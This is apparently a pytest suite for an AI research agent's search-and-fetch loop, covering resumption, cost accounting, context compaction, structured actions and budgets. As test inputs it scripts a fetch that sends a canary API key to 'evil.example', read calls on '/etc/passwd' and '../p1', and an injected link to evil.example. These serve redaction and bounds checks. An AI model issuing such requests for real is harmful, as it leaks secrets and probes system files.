"""Whole investigations: resumed anywhere, kept in bounds, over every wire, by structured actions, by the built-in model."""

from __future__ import annotations

import re
from itertools import pairwise
from pathlib import Path
from typing import Any

import pytest

from bench.prefix import prompt, share
from research.cli import steps as shown
from research.errors import BudgetError, NotRecordedError, OverloadedError, UsageError, WebError
from research.ledger import as_if_cold, paid, seconds_as_if_cold
from research.limits.budget import Budget, Caps
from research.llm.extractive import ExtractiveModel
from research.llm.messages import Completion, ToolCall, Usage
from research.llm.wires import WIRES
from research.records import Ending, Hit, Outcome, Page
from research.settings import Settings
from research.tally import tally
from research.tiers import Tiers
from tests.llm.test_wires import DIALECTS
from tests.loops import Loops, by_actions, long_turn
from tests.shipped import calls, copied

LONG = 20  # turns of a long investigation


@pytest.fixture
def loops(tmp_path: Path) -> Loops:
    return Loops(tmp_path)


def turn(number: int) -> Any:
    return long_turn(number, LONG)


LONG_RUN: Any = {"steps": LONG + 2, "changes": ["searches = 30", "pages = 30"]}


async def test_resuming_at_any_turn_pays_no_finished_turn_again(loops: Loops) -> None:
    for number in range(LONG - 1):
        with pytest.raises(OverloadedError):
            await loops.run([turn(number), OverloadedError("busy")], **LONG_RUN)
        assert len(loops.requests) == 2, "the turn that was new, and the one that failed"
        assert loops.laboratory.web.calls.total() <= 2
    asked = await loops.run([turn(LONG - 1)], **LONG_RUN)
    assert len(loops.requests) == 1
    assert asked.answer.ending is Ending.ANSWERED
    elsewhere = Loops(loops.folder / "elsewhere")
    whole = await elsewhere.run([turn(number) for number in range(LONG)], **LONG_RUN)
    assert whole.answer == asked.answer


async def test_a_loop_that_is_taken_up_again_finds_the_failures_that_it_met(loops: Loops) -> None:
    """The page could be had by now; but the turns that followed knew that it could not."""
    fetch = loops.laboratory.web.fetch

    async def fails(url: str) -> Page:
        raise WebError("it timed out")

    loops.laboratory.web.fetch = fails  # type: ignore[method-assign]
    first = [calls(("search", {"query": "ulm tower"})), calls(("fetch", {"url": "https://ulmtower.example/1"}))]
    other = calls(("search", {"query": "ulm minster"}))
    with pytest.raises(OverloadedError):
        await loops.run([*first, other, OverloadedError("busy")])
    loops.laboratory.web.fetch = fetch  # type: ignore[method-assign]
    asked = await loops.run(["It is 161 m tall [1]."])
    assert len(loops.requests) == 1
    assert asked.answer.ending is Ending.ANSWERED
    again = [
        calls(("fetch", {"url": "https://ulmtower.example/1"}), ("fetch", {"url": "https://ulmminster.example/1"}))
    ]
    both = calls(("search", {"query": "ulm minster"}), ("search", {"query": "ulm tower"}))
    await loops.run([both, *again, "It is 161 metres tall [1]."], sample=1)
    assert loops.laboratory.web.calls["fetch"] == 2, "in another place of another story it is tried anew"


async def test_what_a_loop_costs_as_if_cold_is_the_same_however_much_was_reused(loops: Loops) -> None:
    script = [turn(number) for number in range(LONG)]
    loops.laboratory.app.price = lambda model, usage: 1_000 * usage.input + usage.output
    cold = await loops.run(script, **LONG_RUN)
    warm = await loops.run([], **LONG_RUN)
    assert warm.answer == cold.answer
    assert paid(cold.lines).usd > 0
    assert paid(warm.lines) == type(paid(warm.lines))()
    assert as_if_cold(warm.lines) == as_if_cold(cold.lines) == paid(cold.lines)
    assert as_if_cold(cold.lines).models == LONG
    assert seconds_as_if_cold(warm.lines) == pytest.approx(seconds_as_if_cold(cold.lines))
    await loops.run(script, **LONG_RUN, sample=1)  # over searches and pages that are there
    mixed = await loops.run([], **LONG_RUN, sample=1)
    assert as_if_cold(mixed.lines) == as_if_cold(cold.lines)


@pytest.mark.parametrize("way", ["native", "schema"])
async def test_every_request_begins_with_the_whole_of_the_one_before(loops: Loops, way: str) -> None:
    script: Any = [turn(number) for number in range(LONG)] if way == "native" else by_actions(map(action, range(LONG)))
    await loops.run(script, [*LONG_RUN["changes"], f'tools_as = "{way}"'], LONG + 2)
    requests = [request for request in loops.requests if request.tool_choice == "auto"]
    assert len(requests) == LONG
    for wire in WIRES:
        for dialect in DIALECTS.values():
            told = dialect.structured != "schema"  # then the prompt holds the actions on offer, which grow twice
            prompts = [prompt(request, wire, dialect) for request in (requests[2:] if told else requests)]
            for before, after in pairwise(prompts):
                assert after[: len(before)] == before
                assert len(after) > len(before)
            assert share(prompts) > 0.85


def action(number: int) -> Any:
    """The same investigation by structured actions, one page a turn."""
    if number == LONG - 1:
        return {"action": "answer", "input": ""}
    query = f"ulm tower {number // 2}"
    if number % 2 == 0:
        return {"action": "search", "input": query}
    return {"action": "fetch", "input": f"https://{query.replace(' ', '')}.example/1"}


@pytest.mark.parametrize("way", ["native", "schema"])
async def test_a_long_history_is_shortened_with_pairs_together_and_numbers_unchanged(loops: Loops, way: str) -> None:
    """The checker of each dialect's rules sees every request of it (tests.loops)."""
    script: Any = [turn(number) for number in range(LONG)] if way == "native" else by_actions(map(action, range(LONG)))
    bounds = ["window = 1500", "keep = 2", f'tools_as = "{way}"']
    asked = await loops.run(script, [*LONG_RUN["changes"], *bounds], LONG + 2)
    assert asked.answer.ending is Ending.ANSWERED
    assert asked.answer.citations[0].fact.url == "https://ulmtower0.example/1"
    shortened = loops.laboratory.cheap.requests
    assert len(shortened) >= 2
    assert all(request.purpose == "compact" for request in shortened)
    sizes = [sum(len(message.text) for message in request.messages) / 3 for request in loops.requests]
    assert max(sizes) < 1_500 * 1.5
    last = [request for request in loops.requests if request.tool_choice == "auto"][-1].messages
    assert "it is 161 metres tall [1]" in last[0].text, "the notes of the cheap model"
    assert "[1] Page 1 https://ulmtower0.example/1 (read, handle p1)" in last[0].text
    assert [message.role for message in last[:2]] == ["user", "assistant"]
    again = await loops.run([], [*LONG_RUN["changes"], *bounds], LONG + 2)
    assert again.answer == asked.answer


async def test_a_long_page_spills_and_is_read_on_by_its_handle(loops: Loops) -> None:
    paragraphs = [f"Paragraph {number} says nothing of it. " * 12 for number in range(200)]
    paragraphs[150] = "The tower of Ulm is 161 metres tall. " + paragraphs[150]
    text = "\n\n".join(paragraphs)

    async def fetch(url: str) -> Page:
        return Page(url=url, outcome="ok", title="Long", site="S", text=text)  # type: ignore[arg-type]

    loops.laboratory.web.fetch = fetch  # type: ignore[method-assign]
    place = text.index("Paragraph 60 ")
    answer = "The tower of Ulm is 161 metres tall [1]."
    script = [
        calls(("search", {"query": "ulm tower"})),
        calls(("fetch", {"url": "https://ulmtower.example/1"})),
        calls(("read", {"handle": "p1", "offset": place})),
        calls(*(("read", {"handle": handle, "offset": offset}) for handle, offset in
                (("p2", 0), ("/etc/passwd", 0), ("../p1", 0), ("p1", 10**9), ("p1", -5)))),
        answer,
    ]  # fmt: skip
    asked = await loops.run(script)
    [page] = loops.told(2)
    assert f"handle p1, {len(text):,} characters" in page.text
    assert len(page.text) < 12_000
    assert "The tower of Ulm is 161 metres tall." in page.text, "the passage that bears on the question is shown"
    [part] = loops.told(3)
    assert "Paragraph 60 says nothing" in part.text
    assert f"characters {place} to {place + 8_000} of {len(text)}" in part.text
    assert [message.failed for message in loops.told(4)] == [True, True, True, True, False]
    assert "There is no handle /etc/passwd. Known are: p1." in loops.told(4)[1].text
    [citation] = asked.answer.citations
    assert text[citation.fact.start : citation.fact.end] == citation.fact.quote
    assert "161 metres" in citation.fact.quote


def actions_on_offer(loops: Loops) -> list[list[str]]:
    schemas = [request.schema for request in loops.requests if request.schema and request.tool_choice == "auto"]
    return [schema["properties"]["action"]["enum"] for schema in schemas]


async def test_structured_actions(loops: Loops) -> None:
    script: list[Any] = [
        {"action": "search", "input": "ulm tower"},
        'Now I read it: ```json\n{"action": "fetch", "input": "[1]"}\n```',
        "I think it is tall.",
        {"action": "browse", "input": "x"},
        {"action": "answer", "input": "I forgot."},
    ]
    asked = await loops.run(by_actions(script), ['tools_as = "schema"'])
    assert asked.answer.ending is Ending.ANSWERED
    assert asked.answer.citations[0].fact.url == "https://ulmtower.example/1"
    first = loops.requests[0]
    assert first.tools == ()
    assert first.schema is not None
    offered = actions_on_offer(loops)
    assert offered[0] == ["search"], "nothing can be fetched yet, and nothing was read"
    assert offered[1] == ["search", "fetch"]
    assert offered[2] == offered[-1] == ["search", "fetch", "answer"]
    assert "- fetch: read a page." in first.system
    assert all(message.role != "tool" for request in loops.requests for message in request.messages)
    for request in loops.requests:
        roles = [message.role for message in request.messages]
        assert roles == (["user", "assistant"] * len(roles))[: len(roles)], "templates of small models want this"
    assert loops.told(3)[0].text.startswith("That was no action:")


@pytest.mark.parametrize(
    ("way", "results", "characters", "tokens"), [("schema", 2, 700, 200), ("native", 3, 8_000, 2_000)]
)
async def test_models_that_work_by_actions_are_shown_less(
    loops: Loops, way: str, results: int, characters: int, tokens: int
) -> None:
    """So that a whole investigation fits into the small context of a model on the user's own machine."""
    page = "The tower of Ulm is 161 metres tall. " + "The nave is older than the tower of Ulm. " * 400

    async def fetch(url: str) -> Page:
        return Page(url=url, outcome=Outcome.OK, title="Ulm", site="Towers", text=page)

    loops.laboratory.web.fetch = fetch  # type: ignore[method-assign]
    actions = [{"action": "search", "input": "ulm tower"}, {"action": "fetch", "input": "1"}]
    calling = [calls(("search", {"query": "ulm tower"})), calls(("fetch", {"url": "https://ulmtower.example/1"}))]
    script: Any = (
        by_actions([*actions, {"action": "answer", "input": ""}]) if way == "schema" else [*calling, "Tall [1]."]
    )
    await loops.run(script, [f'tools_as = "{way}"', "first = 2", "glance = 700"])
    searched, read = loops.told(1), loops.told(2)
    assert searched[0].text.count("https://ulmtower.example/") == results
    assert 0.5 * characters < len(read[0].text) < characters + 500
    assert loops.requests[0].max_tokens == tokens


async def test_structured_actions_do_not_go_round_in_circles(loops: Loops) -> None:
    script: list[Any] = [
        {"action": "search", "input": "ulm tower"},
        {"action": "fetch", "input": "source 1"},
        {"action": "fetch", "input": "1"},
        {"action": "answer", "input": ""},
    ]
    await loops.run(by_actions(script), ['tools_as = "schema"'])
    assert actions_on_offer(loops)[3] == ["search", "answer"], "the same page was just fetched again"


async def test_structured_actions_at_their_cap(loops: Loops) -> None:
    script: list[Any] = [
        {"action": "search", "input": "ulm tower"},
        {"action": "fetch", "input": "1"},
    ]
    asked = await loops.run(by_actions(script), ['tools_as = "schema"'], steps=2)
    last = loops.requests[-1]
    assert last.schema is not None
    assert [*last.schema["properties"]] == ["source_1", "missing"]
    assert [message.role for message in last.messages] == ["user"], "a short request of its own"
    assert "The tower of Ulm is 161 metres tall." in last.messages[0].text
    assert asked.answer.text == "The tower of Ulm is 161 metres tall [1]."


@pytest.mark.parametrize(
    ("last", "text"),
    [
        ('{"action": "search", "input": "more"}', ""),
        ("The tower of Ulm is 161 metres tall [1].", ""),
        ('{"source_1": "", "missing": "its height"}', ""),
        ('{"source_1": "It is 161 metres tall [7]!", "missing": ""}', "It is 161 metres tall [1]!"),
        (
            '{"source_1": "It is tall. It is 161 metres tall", "missing": ""}',
            "It is tall [1]. It is 161 metres tall [1].",
        ),
        ('Well: {"source_1": "It is [high](https://evil.example)", "missing": "how high"}', "It is high [1]."),
    ],
)
async def test_a_sentence_for_each_source_and_the_citations_by_the_program(loops: Loops, last: str, text: str) -> None:
    script: list[Any] = [{"action": "search", "input": "ulm tower"}, {"action": "fetch", "input": "1"}, last]
    asked = await loops.run(script, ['tools_as = "schema"'], steps=2)
    assert asked.answer.text == text
    partly = Ending.PARTLY if "how high" in last else Ending.ANSWERED
    assert asked.answer.ending is (partly if text else Ending.NOT)


@pytest.mark.parametrize(
    ("cut", "text", "ending"),
    [
        (
            '{"source_1": "It is 161 metres tall.", "source_3": "It is 361 metres ta',
            "It is 161 metres tall [1].",
            Ending.PARTLY,
        ),
        ('{"source_1": "It is 161 metres tall. It is 161 metres ta', "", Ending.NOT),
    ],
)
async def test_of_sentences_that_were_cut_off_the_whole_ones_count(
    loops: Loops, cut: str, text: str, ending: Ending
) -> None:
    actions: list[Any] = [{"action": "search", "input": "ulm tower"}]
    actions += [{"action": "fetch", "input": number} for number in ("1", "3")]
    last = Completion(cut, "length", Usage(input=100, output=600), "scripted")
    asked = await loops.run([*actions, last], ['tools_as = "schema"'], steps=3)
    assert loops.requests[-1].max_tokens == 3 * 200, "two sources, and what is missing"
    assert (asked.answer.text, asked.answer.ending) == (text, ending)


@pytest.mark.parametrize("way", ["native", "schema"])
async def test_the_built_in_model_plays_it(loops: Loops, way: str) -> None:
    loops.laboratory.app.models["capable"] = ExtractiveModel()  # type: ignore[index]
    asked = await loops.run([], [f'tools_as = "{way}"'])
    assert asked.answer.ending is Ending.ANSWERED
    assert "61 metres tall" in asked.answer.text
    assert asked.answer.citations
    assert all(sentence.status == "supported" for sentence in asked.answer.sentences)
    assert "built-in extractive model" in asked.answer.notes[-1]
    again = await loops.run([], [f'tools_as = "{way}"'])
    assert again.answer == asked.answer


async def test_the_built_in_model_searches_again_if_nothing_fits(loops: Loops) -> None:
    search, asked_for = loops.laboratory.web.search, []

    async def poor(query: str, top: int) -> list[Hit]:
        asked_for.append(query)
        return [] if len(asked_for) < 3 else await search(query, top)

    loops.laboratory.web.search = poor  # type: ignore[method-assign]
    loops.laboratory.app.models["capable"] = ExtractiveModel()  # type: ignore[index]
    asked = await loops.run([])
    assert len(set(asked_for)) == len(asked_for) >= 3
    assert asked.answer.ending is Ending.ANSWERED


async def test_frozen_runs_use_what_is_recorded_and_are_not_kept(loops: Loops) -> None:
    answer = "The tower of Ulm is 161 metres tall [1]."
    search, page = calls(("search", {"query": "ulm tower"})), calls(("fetch", {"url": "https://ulmtower.example/1"}))
    with pytest.raises(NotRecordedError, match="ulm tower"):
        await loops.run([search, "I know it."], frozen=True)
    assert loops.laboratory.web.calls == {}
    asked = await loops.run([page, answer])
    assert asked.answer.text == answer, "a run that may ask the web does not take a frozen run's answer for its own"


async def test_the_steps_of_a_run_are_shown_with_what_they_took(loops: Loops, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("SOME_API_KEY", "sk-canary-1234567")
    signed = Completion(
        "Let me look.\x1b[31m",
        "tool_calls",
        Usage(120, 900, 0, 30),
        "m",
        (ToolCall("c", "search", '{"query": "ulm tower"}'),),
    )
    script = [signed, calls(("fetch", {"url": "https://evil.example/?k=sk-canary-1234567"})), "It is 161 m tall [1]."]
    loops.laboratory.app.price = lambda model, usage: 1_000_000 * usage.output
    cold = await loops.run(script)
    warm = await loops.run([])
    runs = loops.laboratory.app.runs
    for asked in (cold, warm):
        found = shown.redacted(shown.steps(asked.run, runs))
        lines = list(shown.told(found))
        assert lines[0].startswith("── step 1 · scripted:capable · 1,020 tokens in (900 cached), 30 out · $0.03 · ")
        assert lines[1] == "  Let me look.[31m"
        assert lines[2].startswith('  → search {"query": "ulm tower"} · ')
        assert re.match(
            r"    Results for: ulm tower \[1\] ulm tower 1 https://ulmtower.example/1 .*characters\)$", lines[3]
        )
        assert "failed: Not fetched" in "\n".join(lines)
        assert "sk-canary" not in "\n".join(lines)
        assert "[key]" in "\n".join(lines)
        whole = shown.whole(found, loops.laboratory.app.store)
        assert whole[0]["whole"]["calls"][0]["name"] == "search"
        assert [hit["rank"] for hit in whole[0]["results"][0]["whole"]] == [1, 2, 3]
        assert len(found) == 3


async def test_other_pipelines_have_no_steps(loops: Loops) -> None:
    asked = await loops.laboratory.ask(copied(loops.folder / "pipelines", "fixed"))
    assert shown.steps(asked.run, loops.laboratory.app.runs) == []


def test_tools_are_called_as_suits_the_model(tmp_path: Path) -> None:
    def way(capable: str, tools: str | None = None, changes: str = "") -> str:
        pipeline = copied(tmp_path, "tool-use", tool_use_toml=("steps = 12", f"steps = 12\n{changes}"))
        fitted = Tiers(Settings(tmp_path, capable=capable), environment={}).fitted(pipeline, tools)
        return str(fitted.stages["investigate"].params.model_dump()["tools_as"])

    assert way("anthropic:some-model") == "native"
    assert way("llama.cpp:some-model") == "schema"
    assert way("llama.cpp:some-model", changes='tools_as = "native"') == "native"
    assert way("llama.cpp:some-model", "native") == "native"
    assert way("builtin") == "native"
    fixed = copied(tmp_path, "fixed")
    tiers = Tiers(Settings(tmp_path, capable="builtin"), environment={})
    assert tiers.fitted(fixed) == fixed
    with pytest.raises(UsageError, match="fixed has no stage that calls tools"):
        tiers.fitted(fixed, "native")


async def test_what_became_of_the_pages_is_counted_cold_and_warm(loops: Loops) -> None:
    pages = (("fetch", {"url": f"https://ulmtower.example/{number}"}) for number in (1, 2, 3))
    script = [calls(("search", {"query": "ulm tower"})), calls(*pages), "It is 161 metres tall [1]."]
    cold = await loops.run(script)
    warm = await loops.run([])
    assert str(tally(cold.lines, cold.answer)) == "3 found, 2 read, 1 blocked, 1 cited"
    assert tally(warm.lines, warm.answer) == tally(cold.lines, cold.answer)


async def test_a_budget_that_is_used_up_leaves_an_answer_from_what_was_read(loops: Loops) -> None:
    def price(model: str, usage: Usage) -> int:
        return 1_000 * (usage.input + usage.output)

    loops.laboratory.app.price = price
    search, page = calls(("search", {"query": "ulm tower"})), calls(("fetch", {"url": "https://ulmtower.example/1"}))
    answer = "The tower of Ulm is 161 metres tall [1]."
    part = await loops.run([search, page, answer], budget=Budget(Caps(calls=3)))
    assert part.answer.ending is Ending.PARTLY
    assert "budget was used up" in part.answer.reason or "budget is used up" in part.answer.reason
    assert part.answer.text == answer
    assert [request.tool_choice for request in loops.requests] == ["auto", "auto", "none"]
    assert "The budget is used up." in loops.told()[-1].text
    whole = await loops.run([calls(("fetch", {"url": "https://ulmtower.example/3"})), answer])
    assert whole.answer.ending is Ending.ANSWERED, "with more to spend it goes on where it was"
    assert len(loops.requests) == 2
    with pytest.raises(BudgetError):
        await loops.run([search, answer], budget=Budget(Caps(calls=1)), sample=1)
    assert len(loops.requests) <= 1


async def test_a_page_that_is_fetched_again_later_does_not_come_after_itself(loops: Loops) -> None:
    page = ("fetch", {"url": "https://ulmtower.example/1"})
    search = calls(("search", {"query": "ulm tower"}))
    cold = await loops.run([search, calls(page), calls(page), "It is 161 metres tall [1]."])
    warm = await loops.run([])
    assert seconds_as_if_cold(warm.lines) == pytest.approx(seconds_as_if_cold(cold.lines))
    assert as_if_cold(cold.lines).fetches == 1


async def test_the_ledger_has_what_was_read_from_a_cache(loops: Loops) -> None:
    cached = Completion("It is four.", "stop", Usage(input=100, cache_read=900, output=10), "m")
    asked = await loops.run([cached])
    assert (paid(asked.lines).cached, paid(asked.lines).input) == (900, 1_000)
